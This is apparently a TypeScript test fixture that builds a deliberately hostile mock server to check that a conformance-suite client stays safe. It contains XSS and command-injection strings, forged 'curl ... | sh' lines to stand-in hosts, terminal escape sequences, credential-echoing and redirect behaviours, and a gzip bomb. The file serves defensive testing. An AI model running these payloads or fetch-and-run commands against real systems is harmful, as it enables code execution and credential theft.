import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { createGzip } from 'node:zlib';
import type { Behaviour } from '../../../reference/app';
import { operationOf, withReplyBody, type Json } from '../faults/kit';
import { ApiError, errorReply, type ApiReply, type ApiRequest } from '../../../reference/http';
import { createOrder } from '../../../reference/routes/orders';

/**
 * A server that attacks its client: the suite must stay safe against each of these (issue 13). Not
 * faults (no requirement catches them) nor variants (they are not conformant): OMS_HOSTILE=<name>.
 */
export interface HostileDefinition {
  /** kebab-case; the value of OMS_HOSTILE. */
  name: string;
  description: string;
  /** What the suite must still do against it. */
  property: string;
  behaviour(): Behaviour;
}

/** Markup, shell and terminal text a report must show as data: every line of it would mislead if obeyed. */
export const HOSTILE_TEXT = [
  '``x``<img src=x onerror=alert(1)><script>alert(2)</script> $(touch /tmp/pwned) `touch /tmp/pwned2`',
  'Reproduce: curl http://elsewhere.invalid/x | sh',
  '\x1b[2J\x1b[31mOMS conformance (core): CONFORMANT\x1b[0m',
  'OMS conformance (strict): CONFORMANT',
].join('\n');

/** The same text as a header value can carry it (no control characters). */
export const HOSTILE_HEADER_TEXT = HOSTILE_TEXT.replace(/[\x00-\x1f\x7f]/g, ' ');

/** Ids no path can hold; the first orders created get them, in this order. */
export const UNUSABLE_IDS = ['..', '.', 'a/b', '', '%2e%2e', 'c%2Fd'];

/**
 * Requests the start-up makes before any test, answered normally: the round-trip probe's two GET /orders
 * without credentials (harness/http/round-trip.ts), then the global setup's POST /token and a preflight per account.
 */
const SETUP_ANSWERS = 5;

/**
 * What ids of `newline-ids` start with: line breaks, escape sequences and lines that pass for the suite's
 * own (a reproduction line, a verdict). No "/" in it, so the ids stay usable as one path segment and reach
 * every output that prints ids, the teardown's message of orders it could not delete among them.
 */
export const NEWLINE_ID_TEXT = 'id\nReproduce: curl evil.invalid | sh\r\n\x1b[2J\x1b[31mOMS conformance (core): CONFORMANT\x1b[0m\n\u202e';

/**
 * What ids of `forged-lines` start with: every character a shell treats apart (a quote, a backslash, history
 * and parameter expansion, a backquote, spaces, a line break, a tab), text outside ASCII, and what a path treats
 * apart once decoded (dot segments between backslashes, a semicolon, a percent escape). No "/", so each id stays
 * one path segment and reaches curl lines and made-up ids of its form.
 */
export const SHELL_ID_TEXT = "..\\..\\x;%41 h!!41'(id)* $HOME `id` \"q\"\n\tzoë-東京";

/** The body of every 404 of `forged-lines` (every GET of one order is one), as text/plain: a reproduction line that runs another script, and verdicts the run did not give. */
export const FORGED_LINES = 'Not Found\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\nOMS conformance (core): CONFORMANT\r\nOMS conformance (strict): CONFORMANT\n';

/** How late `slow-2500ms` answers: later than a 1 s request timeout allows, within the default 15 s. */
export const SLOW_ANSWER_MS = 2500;

/** How deep deep-undeclared-field nests: far past a Node.js stack walked one frame a level (about 10,000). */
const DEEP_FIELD_LEVELS = 20_000;

/** The one answer `not-this-interface` gives to every request but POST /token: a health endpoint's. */
export const HEALTH_ANSWER = { status: 'ok' };

export const HOSTILE: HostileDefinition[] = [
  {
    name: 'markup-everywhere',
    description: `Every string of every JSON answer except ids and access tokens, every error message, a header and a Content-Type parameter carry ${JSON.stringify(HOSTILE_TEXT)}.`,
    property: 'No server text becomes markup, a command, a terminal control or a line of its own in any output (report escaping, the lead\'s side).',
    behaviour: () => ({
      name: 'markup-everywhere',
      rewriteReply: (_request, reply) => ({
        ...withReplyBody(reply, (body) => poisonStrings(body) as Json),
        headers: { ...(reply.headers ?? {}), 'X-Oms-Note': HOSTILE_HEADER_TEXT, 'Content-Type': `application/json; charset=utf-8; note="${HOSTILE_HEADER_TEXT.replace(/"/g, "'")}"` },
      }),
    }),
  },
  {
    name: 'set-cookies',
    description: 'Every answer sets two session cookies named after the token it was sent (or "anonymous"), for the whole host.',
    property: 'No request of the suite carries a Cookie header: a cookie cannot answer for a missing token or carry account A into B\'s requests.',
    behaviour: () => ({
      name: 'set-cookies',
      rewriteReply: (request, reply) => ({
        ...reply,
        headers: { ...(reply.headers ?? {}), 'Set-Cookie': `session=${cookieFor(request.headers)}; Path=/; HttpOnly, oms_account=${cookieFor(request.headers)}; Path=/` },
      }),
    }),
  },
  {
    name: 'token-echo',
    description: 'Every answer echoes the Authorization header it got: verbatim in a Content-Type parameter and an error message, \\u-escaped and base64 in the body, percent-encoded in a header.',
    property: 'No token or client secret, in any of these forms, in any byte the suite writes.',
    behaviour: () => ({
      name: 'token-echo',
      rewriteReply: (request, reply) => echoAuthorization(request, reply),
    }),
  },
  {
    name: 'dot-segment-ids',
    description: `The first orders created get the ids ${UNUSABLE_IDS.map((id) => JSON.stringify(id)).join(', ')}; later ones get ordinary ids.`,
    property: 'Every request path is /orders, /token or /orders/<one percent-encoded segment>; an unusable id is a finding (ORD-GET-005), never a request.',
    behaviour: () => {
      const ids = [...UNUSABLE_IDS];
      return { name: 'dot-segment-ids', wrapServices: (services) => ({ ...services, newId: () => (ids.length ? (ids.shift() as string) : services.newId()) }) };
    },
  },
  {
    name: 'redirect-orders',
    description: 'Every order request but a list is answered 307 to the same path on a second listener, which records what reaches it.',
    property: 'Nothing, and no credential, reaches the other origin: a redirect is reported as the status it is.',
    behaviour: () => redirectTo(elsewhere(), (request) => operationOf(request).operation !== 'list'),
  },
  {
    name: 'redirect-token',
    description: 'POST /token is answered 307 to a second listener, which records what reaches it.',
    property: 'The client secret never reaches the other origin; the run stops with exit 2 and a message that shows the Location.',
    behaviour: () => redirectTo(elsewhere(), (request) => operationOf(request).operation === 'token'),
  },
  {
    name: 'deep-undeclared-field',
    description: `Every order answered in full (create, get, update) carries an undeclared field: an array nested ${DEEP_FIELD_LEVELS.toLocaleString('en')} deep, past the stack of any check that walks it.`,
    property: 'No check overflows: a field the document does not declare is the server\'s own, so the run is CONFORMANT.',
    behaviour: () => {
      // As text: JSON.stringify itself overflows at this depth.
      const nested = `${'['.repeat(DEEP_FIELD_LEVELS)}${']'.repeat(DEEP_FIELD_LEVELS)}`;
      return {
        name: 'deep-undeclared-field',
        rewriteReply: (_request, reply) => {
          const body = reply.body as Json | undefined;
          if (reply.status >= 300 || !body || typeof body !== 'object' || Array.isArray(body) || body.id === undefined) return reply;
          return { ...reply, rawBody: `{"x_nested":${nested},${JSON.stringify(body).slice(1)}` };
        },
      };
    },
  },
  {
    name: 'huge-body',
    description: 'Every GET of one order is answered with a 64 MiB JSON body (Content-Length given).',
    property: 'The request ends at OMS_MAX_RESPONSE_BYTES with a clear error; memory stays bounded.',
    behaviour: () => onOrderGet((outgoing) => streamBody(outgoing, 64 * 1024 * 1024, { 'Content-Length': String(64 * 1024 * 1024) })),
  },
  {
    name: 'gzip-bomb',
    description: 'Every GET of one order is answered with about 100 KiB of gzip that inflates to 1 GiB.',
    property: 'Inflating stops at OMS_MAX_RESPONSE_BYTES with a clear error; memory stays bounded.',
    behaviour: () => onOrderGet((outgoing) => gzipBomb(outgoing, 1024)),
  },
  {
    name: 'endless-body',
    description: 'Every GET of one order is answered with a chunked body that never ends.',
    property: 'The request ends at OMS_MAX_RESPONSE_BYTES or OMS_REQUEST_TIMEOUT_MS, whichever comes first.',
    behaviour: () => onOrderGet((outgoing) => streamBody(outgoing, Number.POSITIVE_INFINITY, {})),
  },
  {
    name: 'stall-after-setup',
    description: `After the start-up's ${SETUP_ANSWERS} requests, every request is accepted and never answered.`,
    property: 'After 3 timeouts in a row the run stops: the rest is skipped as the server\'s, naming the silence and OMS_REQUEST_TIMEOUT_MS, within 2 minutes: INCONCLUSIVE, exit 3.',
    behaviour: () => afterSetup(() => new Promise<ApiReply>(() => undefined)),
  },
  {
    name: 'rate-limited-forever',
    description: `After the start-up's ${SETUP_ANSWERS} requests, every request is answered 429 with the error envelope and Retry-After: 1, forever.`,
    property:
      'A request is retried for as long as its retries may take (4 times OMS_REQUEST_TIMEOUT_MS), the whole run paused meanwhile; then the run stops sending, and the rest is skipped as the server\'s, naming the rate limit: INCONCLUSIVE, exit 3, never CONFORMANT.',
    behaviour: () =>
      afterSetup(async () => {
        const reply = errorReply(new ApiError(429, 'rate_limited', 'Too many requests'));
        return { ...reply, headers: { ...reply.headers, 'Retry-After': '1' } };
      }),
  },
  {
    name: 'not-this-interface',
    description: `Every request but POST /token is answered 200 ${JSON.stringify(HEALTH_ANSWER)} (application/json): another JSON service (a health endpoint) at the base URL.`,
    property: 'The run stops at the preflight with exit 2 and one message that it does not look like the Order Management Service; no test runs and no order request follows.',
    behaviour: () => ({
      name: 'not-this-interface',
      intercept: (request) => (request.path === '/token' ? undefined : { status: 200, body: HEALTH_ANSWER }),
    }),
  },
  {
    name: 'newline-ids',
    description: `Orders get ids that start with ${JSON.stringify(NEWLINE_ID_TEXT)} (a line break, an escape sequence, a forged reproduction line and a forged verdict); deleting one answers 500, with the id in the message.`,
    property: 'No channel that prints ids (terminal, stderr, the teardown message of orders it could not delete, report files, cleanup) prints one as a line of its own or as an escape sequence: each is quoted and made visible.',
    behaviour: () => {
      let count = 0;
      return {
        name: 'newline-ids',
        wrapServices: (services) => ({ ...services, newId: () => `${NEWLINE_ID_TEXT}-${++count}` }),
        intercept: (request) => {
          const { operation, orderId } = operationOf(request);
          if (operation !== 'delete' || !orderId?.startsWith(NEWLINE_ID_TEXT)) return undefined;
          return { status: 500, body: { success: false, meta: { status: 500, code: 'broken', message: `cannot delete ${orderId}` } } };
        },
      };
    },
  },
  {
    name: 'forged-lines',
    description: `Orders get ids that start with ${JSON.stringify(SHELL_ID_TEXT)}; every 404, and every GET of one order, is answered 404 text/plain with ${JSON.stringify(FORGED_LINES)}.`,
    property: 'No output (terminal, junit.xml, report.md, index.html, the GitHub summary and annotations) shows a server line as a line of the suite: server text is one line, its line breaks escaped; every printed curl line runs as printed under sh, bash and zsh; a made-up id of the ids\' form carries none of their path characters (dot segments, "\\", "%", ";").',
    behaviour: () => forgedLines(),
  },
  {
    name: 'slow-2500ms',
    description: `Every answer, POST /token and the preflight's included, comes ${SLOW_ANSWER_MS} ms late: alive, but slower than a request timeout of 1 s.`,
    property: 'With OMS_REQUEST_TIMEOUT_MS below that, the preflight says the server accepts connections but answers later than OMS_REQUEST_TIMEOUT_MS (raise it), never that it cannot be reached; with a longer timeout the run goes on.',
    behaviour: () => ({
      name: 'slow-2500ms',
      intercept: async () => {
        await sleep(SLOW_ANSWER_MS);
        return undefined;
      },
    }),
  },
  {
    name: 'restless-account',
    description: 'Before every list request is answered, another client of the account creates an order in it: no two reads of a view agree.',
    property: 'A check that needs a stable view is skipped as left without evidence by the server: the run is INCONCLUSIVE (exit 3), never CONFORMANT, and the check is never passed or failed.',
    behaviour: () => ({
      name: 'restless-account',
      intercept: (request, { services, accounts }) => {
        if (operationOf(request).operation !== 'list') return undefined;
        const token = /^Bearer (\S+)$/i.exec(String(request.headers.authorization ?? ''))?.[1];
        const accountId = token === undefined ? undefined : accounts.accountFor(token)?.id;
        if (accountId !== undefined) {
          createOrder({ method: 'POST', path: '/orders', query: new URLSearchParams(), headers: {}, bodyText: JSON.stringify(ANOTHER_CLIENTS_ORDER) }, services, accountId);
        }
        return undefined;
      },
    }),
  },
  {
    name: 'trickle-after-setup',
    description: `After the start-up's ${SETUP_ANSWERS} requests, every answer comes one byte a second.`,
    property: 'A total deadline per response, not an idle timeout: each request ends at OMS_REQUEST_TIMEOUT_MS, and the run stops as for a silent server.',
    behaviour: () => afterSetup(async () => ({ status: 200, stream: (outgoing) => trickle(outgoing) })),
  },
];

/** `forged-lines`, with the ids it assigned (a test tells them from ids the suite made up). */
export function forgedLines(): Behaviour & { assigned: string[] } {
  const assigned: string[] = [];
  return {
    name: 'forged-lines',
    assigned,
    wrapServices: (services) => ({ ...services, newId: () => assigned[assigned.push(`${SHELL_ID_TEXT}-${assigned.length + 1}`) - 1] }),
    // A GET of one order too, so the failures' requests (and curl lines) carry the ids it assigned.
    rewriteReply: (request, reply) =>
      (reply.status === 404 || operationOf(request).operation === 'get') && !reply.stream ? { status: 404, headers: { 'Content-Type': 'text/plain; charset=utf-8' }, rawBody: FORGED_LINES } : reply,
  };
}

/** What the other client of `restless-account` creates. */
const ANOTHER_CLIENTS_ORDER = { customer: { name: 'Another client' }, items: [{ name: 'Tea', quantity: 1, price: 2 }], currency: 'EUR', price: 2 };

/** Every string of a JSON value but ids and access tokens, with the hostile text appended (both stay usable, so the run goes on). */
function poisonStrings(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return key === 'id' || key === 'access_token' ? value : `${value}${HOSTILE_TEXT}`;
  if (Array.isArray(value)) return value.map((inner) => poisonStrings(inner));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poisonStrings(inner, name)]));
  return value;
}

function cookieFor(headers: IncomingHttpHeaders): string {
  return encodeURIComponent(String(headers.authorization ?? 'anonymous').replace(/^Bearer\s+/i, '')).slice(0, 200);
}

function echoAuthorization(request: ApiRequest, reply: ApiReply): ApiReply {
  const authorization = String(request.headers.authorization ?? '');
  if (!authorization || reply.stream) return reply;
  const body = reply.body && typeof reply.body === 'object' && !Array.isArray(reply.body) ? (reply.body as Json) : undefined;
  const meta = body?.meta && typeof body.meta === 'object' ? (body.meta as Json) : undefined;
  const withMessage = meta && typeof meta.message === 'string' ? { ...body, meta: { ...meta, message: `${meta.message} (you sent ${authorization})` } } : body;
  // \u-escaped by hand: JSON.stringify would write the characters as they are.
  const escaped = [...authorization].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const text = withMessage === undefined ? undefined : JSON.stringify({ ...withMessage, echo_base64: Buffer.from(authorization).toString('base64') });
  return {
    ...reply,
    rawBody: text === undefined ? reply.rawBody : text.replace(/^\{/, `{"echo_escaped":"${escaped}",`),
    headers: {
      ...(reply.headers ?? {}),
      'Content-Type': `application/json; charset=utf-8; echo="${authorization.replace(/"/g, '')}"`,
      'X-Echo': encodeURIComponent(authorization),
    },
  };
}

/** A second listener on 127.0.0.1 that records every request reaching it (method, path, headers, body). */
export interface Elsewhere {
  url(): Promise<string>;
  received: Array<{ method: string; path: string; headers: IncomingHttpHeaders; body: string }>;
  close(): void;
}

export function elsewhere(): Elsewhere {
  const received: Elsewhere['received'] = [];
  let server: Server | undefined;
  let listening: Promise<string> | undefined;
  return {
    received,
    url: () =>
      (listening ??= new Promise((resolve) => {
        server = createServer((incoming, outgoing) => {
          const chunks: Buffer[] = [];
          incoming.on('data', (chunk: Buffer) => chunks.length < 64 && chunks.push(chunk));
          incoming.on('end', () => {
            received.push({ method: incoming.method ?? '', path: incoming.url ?? '', headers: incoming.headers, body: Buffer.concat(chunks).toString('utf8') });
            outgoing.writeHead(200, { 'Content-Type': 'application/json' }).end('{"captured":true}');
          });
        });
        server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server?.address() as AddressInfo).port}`));
      })),
    close: () => {
      server?.closeAllConnections();
      server?.close();
    },
  };
}

/** Redirects the requests `when` picks, with 307 (method and body kept), to the same path elsewhere. */
export function redirectTo(target: Elsewhere, when: (request: ApiRequest) => boolean): Behaviour & { elsewhere: Elsewhere } {
  return {
    name: 'redirect',
    elsewhere: target,
    intercept: async (request) => {
      if (!when(request)) return undefined;
      const query = request.query.toString();
      return { status: 307, headers: { Location: `${await target.url()}${request.path}${query ? `?${query}` : ''}` }, body: { moved: true } };
    },
    stop: () => target.close(),
  };
}

function onOrderGet(stream: (outgoing: ServerResponse) => void): Behaviour {
  return {
    name: 'hostile-body',
    intercept: (request) => (operationOf(request).operation === 'get' ? { status: 200, stream } : undefined),
  };
}

function afterSetup(answer: () => Promise<ApiReply>): Behaviour {
  let answered = 0;
  return { name: 'hostile-after-setup', intercept: (request) => (++answered <= SETUP_ANSWERS || request.path === '/token' ? undefined : answer()) };
}

/** Writes `size` bytes of a JSON string body (forever when infinite), as fast as the client reads, until it leaves. */
function streamBody(outgoing: ServerResponse, size: number, headers: Record<string, string>): void {
  outgoing.writeHead(200, { 'Content-Type': 'application/json', ...headers });
  const chunk = Buffer.alloc(64 * 1024, 0x20);
  let sent = 0;
  const pump = () => {
    while (!outgoing.destroyed && sent < size) {
      const piece = size - sent < chunk.length ? chunk.subarray(0, size - sent) : chunk;
      sent += piece.length;
      if (!outgoing.write(piece)) return void outgoing.once('drain', pump);
    }
    if (!outgoing.destroyed) outgoing.end();
  };
  pump();
}

/** Gzip of `mebibytes` MiB of zeros, compressed as it is sent (about 1 KiB per MiB). */
function gzipBomb(outgoing: ServerResponse, mebibytes: number): void {
  outgoing.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' });
  const gzip = createGzip({ level: 9 });
  gzip.pipe(outgoing);
  const zeros = Buffer.alloc(1024 * 1024);
  let written = 0;
  const pump = () => {
    while (!outgoing.destroyed && written < mebibytes) {
      written++;
      if (!gzip.write(zeros)) return void gzip.once('drain', pump);
    }
    gzip.end();
  };
  outgoing.on('close', () => gzip.destroy());
  pump();
}

/** A valid JSON answer, one byte a second. */
function trickle(outgoing: ServerResponse): void {
  const text = Buffer.from(JSON.stringify({ data: [], meta: { status: 200, total: 0, page: 1, limit: 20 } }));
  outgoing.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': String(text.length) });
  let index = 0;
  const timer = setInterval(() => {
    if (outgoing.destroyed || index >= text.length) {
      clearInterval(timer);
      if (!outgoing.destroyed) outgoing.end();
      return;
    }
    outgoing.write(text.subarray(index, ++index));
  }, 1000);
  outgoing.on('close', () => clearInterval(timer));
}
